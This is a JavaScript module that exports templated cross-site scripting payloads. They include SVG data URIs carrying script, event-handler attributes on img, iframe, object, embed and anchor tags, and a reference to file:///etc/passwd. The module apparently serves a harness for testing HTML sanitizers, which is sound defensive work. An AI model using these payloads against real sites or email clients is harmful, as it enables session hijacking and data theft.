/** Pictures that are more than a picture. */
const svg = (content) =>
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' width='30' height='30'>${content}</svg>`;

export default [
  `<img src="${svg("<script>top.trip({{id}})</script>")}" onload={{run}}>`,
  `<object data="${svg("<script>top.trip({{id}})</script>")}" onload={{run}}></object>`,
  `<embed src="${svg("<script>top.trip({{id}})</script>")}" onload={{run}}>`,
  `<iframe src="${svg("<script>top.trip({{id}})</script>")}" onload={{run}}></iframe>`,
  `<a href="${svg("<script>top.trip({{id}})</script>")}" onclick={{run}}>x</a>`,
  `<img src="${svg("<image href='{{sink}}'/>")}" onload={{run}}>`,
  `<img src='data:image/png;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIj4=' onerror={{run}}>`,
  `<img src='data:text/html,<script>top.trip({{id}})</script>' onerror={{run}}>`,
  `<img src='data:image/gif;base64,R0lGODlhAQABAAAAACw=' onload={{run}} onerror={{run}}>`,
  `<img src='data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7' onload={{run}}>`,
  `<img src='cid:part1@example.com' onerror={{run}}>`,
  `<img src='blob:null/x' onerror={{run}}>`,
  `<img src='file:///etc/passwd' onerror={{run}}>`,
  `<img src='{{sink}}' onload={{run}} onerror={{run}} width=1 height=1>`,
];
